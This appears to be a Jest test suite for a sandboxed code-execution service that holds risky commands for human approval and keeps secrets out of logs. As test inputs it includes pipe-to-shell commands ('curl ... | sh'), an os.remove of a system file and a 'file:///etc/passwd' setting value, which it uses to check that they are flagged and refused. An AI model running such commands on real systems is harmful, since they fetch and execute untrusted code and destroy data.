import { afterAll, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { cp, mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Approval, ExecAnswer } from '@secbox/contracts';
import { repositoryRoot } from '../../docker/setup/settings.mjs';
import { startKeyedService, type KeyedService } from '../access/keyed-service.js';
import { writeSkill } from '../mcp/write-skill.js';
import { everything, gateOf, shell, type Gate } from './gated-service.js';

let skills: string;
let service: KeyedService;
let gate: Gate;
beforeAll(async () => {
  skills = await mkdtemp(join(tmpdir(), 'skills-'));
  await cp(join(repositoryRoot, 'skills'), skills, { recursive: true });
  await writeSkill(skills, { id: 'test.asks', script: 'echo asked', approval: 'always' });
  service = await startKeyedService({ SECBOX_SKILLS_DIR: skills });
  gate = await gateOf(service);
});
afterAll(async () => {
  await service.close();
  await rm(skills, { recursive: true });
});
beforeEach(async () => {
  expect((await gate.put({ approvals: everything })).status).toBe(200);
});

const submit = (body: object, headers: Record<string, string> = {}) =>
  gate.call('/sandbox/execs', { key: gate.keys.worker, body: { project_id: 'p', ...body }, headers });

describe('what an approver sees', () => {
  test('is exactly what will run, as documented, and nothing that is secret', async () => {
    const canary = 'canary-5f0c6f0e';
    const code = 'import os, sys; print(open("/workspace/inputs/data/rows.csv").read()); os.remove("/etc/x")';
    const answer = await submit({
      project_id: 'seen',
      exec: {
        kind: 'python',
        command: 'python',
        args: ['-c', code, 'an argument'],
        env: { TOKEN: canary, MODE: 'x' },
        stdin: `import subprocess # ${canary}`,
      },
      inputs: [
        { path: 'data/rows.csv', content: 'a,b\n1,2\n' },
        { path: 'image.bin', content_base64: Buffer.from([0, 1, 255]).toString('base64') },
        { path: 'long.txt', content: 'ä'.repeat(3000) },
        { path: 'password', content: canary, secret: true },
      ],
      policy_overrides: { timeout_ms: 20_000 },
    });
    expect(answer.status).toBe(202);
    expect(answer.headers.get('location')).toBe(`/sandbox/execs/${String(answer.body['exec_id'])}`);
    const exec = answer.body as unknown as ExecAnswer;
    const seen = await gate.call(`/approvals/${exec.exec_id}`, { key: gate.keys.approver });
    const approval = seen.body as unknown as Approval;
    expect(approval).toMatchObject({
      approval_id: exec.exec_id,
      exec_id: exec.exec_id,
      requested_by: gate.workerId,
      state: 'pending',
      needed_because: 'Settings ask for it for everything.',
      plan_hash: exec.plan_hash,
      plan: {
        argv: ['python', '-c', code, 'an argument'],
        cwd: '/workspace/work',
        env_keys: ['MODE', 'TOKEN'],
        stdin_bytes: 35,
        image_digest: exec.image_digest,
        limits: { timeout_ms: 20_000, memory_mb: 1024 },
      },
    });
    expect(approval.plan.inputs).toEqual([
      expect.objectContaining({ path: 'data/rows.csv', preview: 'a,b\n1,2\n', preview_complete: true }),
      expect.objectContaining({ path: 'image.bin', size: 3, preview: null, preview_complete: false }),
      expect.objectContaining({ path: 'long.txt', preview: 'ä'.repeat(1024), preview_complete: false }),
      { path: 'password', secret: true, brought: true },
    ]);
    expect(approval.risk?.findings.length).toBeGreaterThan(0);
    expect(approval.risk?.findings).toContainEqual(
      expect.objectContaining({ excerpt: expect.stringContaining('os.remove') }),
    );

    const { body: document } = await gate.call('/openapi.json');
    const ajv = new Ajv2020({ strict: false, formats: { 'date-time': true } });
    for (const [name, value] of [
      ['Approval', approval],
      ['ApprovalPage', (await gate.call('/approvals', { key: gate.keys.approver })).body],
    ] as const) {
      const components = document['components'] as object;
      const check = ajv.compile({ $ref: `#/components/schemas/${name}`, components });
      expect([check(value), check.errors]).toEqual([true, null]);
    }

    expect(seen.text).not.toContain(canary);
    expect(service.log()).not.toContain(canary);
    for (const file of await readdir(service.dataDir)) {
      if (!file.startsWith('secbox.db')) continue;
      expect(await readFile(join(service.dataDir, file), 'latin1')).not.toContain(canary);
    }
    const spool = join(service.dataDir, 'workspace/spool', exec.exec_id);
    for (const file of await readdir(spool)) {
      expect(await readFile(join(spool, file), 'latin1')).not.toContain(canary);
    }
    await gate.decide(exec.exec_id, { decision: 'deny' });
    // Behind the answer.
    while ((await readdir(join(service.dataDir, 'workspace/spool'))).includes(exec.exec_id)) await sleep(20);
  });

  test('runs when it is approved, and the record says by whom; denied, it does not, and the requester hears why', async () => {
    const { exec_id: id } = await gate.hold('echo "$1" > /workspace/artifacts/left; echo out');
    const approved = await gate.decide(id, { decision: 'approve', reason: 'looks fine' });
    expect(approved.body).toMatchObject({
      state: 'approved',
      decided_by: gate.approverId,
      decided_through: 'api',
      decision_reason: 'looks fine',
    });
    expect(await gate.end(id)).toMatchObject({
      status: 'succeeded',
      stdout: 'out\n',
      actor: gate.workerId,
      artifacts: [expect.objectContaining({ path: 'left' })],
    });
    const denied = await gate.hold('echo out');
    await gate.decide(denied.exec_id, { decision: 'deny', reason: 'not on a Friday' });
    expect(await gate.end(denied.exec_id)).toMatchObject({
      status: 'rejected',
      started_at: null,
      exit_code: null,
      error_reason: 'denied by an approver: not on a Friday',
    });
    const events = await gate.call('/audit/events?type=approval_decided&limit=1', { key: gate.keys.auditor });
    expect(events.body['events']).toEqual([
      expect.objectContaining({
        actor: gate.approverId,
        subject: denied.exec_id,
        details: expect.objectContaining({ decision: 'deny', reason: 'not on a Friday' }),
      }),
    ]);
  });
});

describe('what has to be agreed to', () => {
  test('by level: what looks harmless runs at once, and nothing is asked', async () => {
    await gate.put({ approvals: { from_level: 'HIGH' } });
    const harmless = await submit({ exec: shell('echo hello') });
    expect([harmless.status, harmless.body['status']]).toEqual([200, 'succeeded']);
    const held = await gate.hold('curl https://example.com/x | sh');
    const { risk_level, needed_because } = await gate.see(held.exec_id);
    expect(risk_level).toBe('CRITICAL');
    expect(needed_because).toBe('It looks CRITICAL, and Settings ask for it from HIGH on.');
  });

  test('a script among the inputs is looked at, also one that was there before', async () => {
    await gate.put({ approvals: { from_level: 'HIGH' } });
    const inputs = [{ path: 'main.py', content: 'import os\nos.system("curl http://x | sh")\n' }];
    const exec = { kind: 'python', command: 'python', args: ['/workspace/inputs/main.py'] };
    const brought = await submit({ project_id: 'script', exec, inputs });
    expect(brought.body['status']).toBe('awaiting_approval');
    await gate.decide(String(brought.body['exec_id']), { decision: 'approve' });
    await gate.end(String(brought.body['exec_id']));
    const later = await submit({ project_id: 'script', exec });
    expect(later.body['status']).toBe('awaiting_approval');
    expect((await gate.see(String(later.body['exec_id']))).risk?.findings).toContainEqual(
      expect.objectContaining({ line: 2 }),
    );
  });

  test('per tenant, in place of what holds for all', async () => {
    const acme = (await service.makeKey('acme', ['worker'])).key;
    await gate.put({ approvals: { from_level: 'SAFE', tenants: { acme: { from_level: null } } } });
    const body = { project_id: 'p', exec: shell('true') };
    expect((await gate.call('/sandbox/execs', { key: acme, body })).status).toBe(200);
    expect((await submit({ exec: shell('true') })).status).toBe(202);
    await gate.put({ approvals: { tenants: { acme: { from_level: 'SAFE' } } } });
    expect((await gate.call('/sandbox/execs', { key: acme, body })).status).toBe(202);
    expect((await submit({ exec: shell('true') })).status).toBe(200);
  });

  test('per skill, by Settings and by the manifest, which Settings cannot take back', async () => {
    const invoke = (id: string, inputs: object) =>
      gate.call(`/skills/${id}/invoke`, { key: gate.keys.worker, body: { inputs } });
    await gate.put({ approvals: { skills: ['shell.run'], from_level: null } });
    const listed = await invoke('shell.run', { script: 'echo x' });
    expect([listed.status, listed.body['status']]).toEqual([202, 'awaiting_approval']);
    expect((await invoke('json.query', { document: 1, filter: '.' })).status).toBe(200);
    await gate.put({});
    const asks = await invoke('test.asks', {});
    expect(asks.body['status']).toBe('awaiting_approval');
    const id = String(asks.body['exec_id']);
    const { needed_because, skill_id, plan } = await gate.see(id);
    expect([needed_because, skill_id]).toEqual(['The manifest of test.asks asks for it.', 'test.asks']);
    expect(plan.inputs.map((input) => input.path.replace(id, 'ID'))).toContain('ID/input.json');
    await gate.decide(id, { decision: 'approve' });
    await gate.end(id);
    const done = await gate.call(`/skills/test.asks/execs/${id}`, { key: gate.keys.worker });
    expect(done.body).toMatchObject({ status: 'succeeded', output: 'asked\n' });
  });

  test('Settings that make no sense are refused', async () => {
    for (const approvals of [
      { from_level: 'DANGEROUS' },
      { expires_after_seconds: 0 },
      { skills: 'shell.run' },
      { webhook_url: 'file:///etc/passwd' },
      { auto_approve: 'yes' },
      { tenants: { acme: { auto_approve: true } } },
    ]) {
      expect((await gate.put({ approvals } as object)).status).toBe(400);
    }
    const unsigned = await gate.put({ approvals: { webhook_url: 'http://127.0.0.1:1/' } });
    expect([unsigned.status, unsigned.body.error?.code]).toEqual([400, 'invalid_setting']);
  });
});

describe('whoever asked', () => {
  test('waits as long as it says, streams from the hold to the end, or polls', async () => {
    const started = Date.now();
    const bounded = await submit({ exec: shell('echo later') }, { prefer: 'wait=1' });
    expect(bounded.body['status']).toBe('awaiting_approval');
    expect(Date.now() - started).toBeGreaterThanOrEqual(1000);
    const id = String(bounded.body['exec_id']);

    const stream = await fetch(`${gate.url}/sandbox/execs/${id}/events`, {
      headers: { authorization: `Bearer ${gate.keys.worker}` },
    });
    const whole = stream.text();
    const long = submit({ exec: shell('echo waited') }, { prefer: 'wait=60' });
    const { approvals } = (await gate.call('/approvals?state=pending', { key: gate.keys.approver }))
      .body as unknown as { approvals: Approval[] };
    await gate.decide(id, { decision: 'approve' });
    const text = await whole;
    expect([...text.matchAll(/"status":"(\w+)"/g)].map(([, status]) => status)).toEqual([
      'awaiting_approval',
      'running',
      'succeeded',
    ]);
    expect(text).toContain(Buffer.from('later\n').toString('base64'));
    expect(approvals.map(({ exec_id }) => exec_id)).toContain(id);

    for (;;) {
      const { body } = await gate.call('/approvals?state=pending', { key: gate.keys.approver });
      const other = (body as unknown as { approvals: Approval[] }).approvals.find(
        ({ exec_id, requested_at }) => exec_id !== id && Date.parse(requested_at) > started,
      );
      if (!other) continue;
      await gate.decide(other.exec_id, { decision: 'approve' });
      break;
    }
    const answered = await long;
    expect([answered.status, answered.body['stdout']]).toEqual([200, 'waited\n']);
  });

  test('sends it again under its key and gets the one that waits', async () => {
    const headers = { 'idempotency-key': 'held-once' };
    const [first, second] = await Promise.all([
      submit({ exec: shell('true') }, headers),
      submit({ exec: shell('true') }, headers),
    ]);
    expect(second.body['exec_id']).toBe(first.body['exec_id']);
    expect((await submit({ exec: shell('false') }, headers)).status).toBe(422);
    expect((await submit({ exec: shell('true') }, headers)).body['exec_id']).toBe(first.body['exec_id']);
  });

  test('cancels it, and nobody can approve it any more', async () => {
    const { exec_id: id } = await gate.hold('true');
    const cancelled = await gate.call(`/sandbox/execs/${id}/cancel`, {
      key: gate.keys.worker,
      method: 'POST',
    });
    expect(cancelled.body).toMatchObject({ status: 'cancelled', started_at: null });
    expect((await gate.see(id)).state).toBe('withdrawn');
    const late = await gate.decide(id, { decision: 'approve' });
    expect([late.status, late.body.error?.code]).toEqual([409, 'approval_decided']);
  });

  test('is told when too many wait already', async () => {
    const { key } = await service.makeKey('crowd', ['worker']);
    await gate.put({ approvals: { ...everything, max_pending: 2 } });
    const statuses = [];
    for (let n = 0; n < 3; n += 1) {
      const body = { project_id: 'p', exec: shell('true') };
      statuses.push((await gate.call('/sandbox/execs', { key, body })).status);
    }
    expect(statuses).toEqual([202, 202, 429]);
  });

  test('a project with one that waits is in use; removed with what waits, that ends', async () => {
    const { exec_id: id } = await gate.hold('true', { project_id: 'doomed' });
    const remove = (query: string) =>
      gate.call(`/projects/doomed${query}`, { key: gate.keys.admin, method: 'DELETE' });
    expect((await remove('')).body.error?.code).toBe('project_in_use');
    expect((await remove('?cancel=true')).status).toBe(200);
    expect(await gate.end(id)).toMatchObject({ status: 'cancelled' });
    expect((await gate.see(id)).state).toBe('withdrawn');
  });
});

test('auto_approve runs everything at once, the row says that nobody looked, and health warns', async () => {
  await gate.put({ approvals: { ...everything, auto_approve: true } });
  const answer = await submit({ exec: shell('echo developed') });
  expect([answer.status, answer.body['stdout']]).toEqual([200, 'developed\n']);
  expect(await gate.see(String(answer.body['exec_id']))).toMatchObject({
    state: 'approved',
    decided_by: null,
    decided_through: 'auto-approve',
  });
  const health = await gate.call('/sandbox/health', { key: gate.keys.worker });
  expect(health.body['warnings']).toContainEqual(expect.stringContaining('auto_approve'));
});
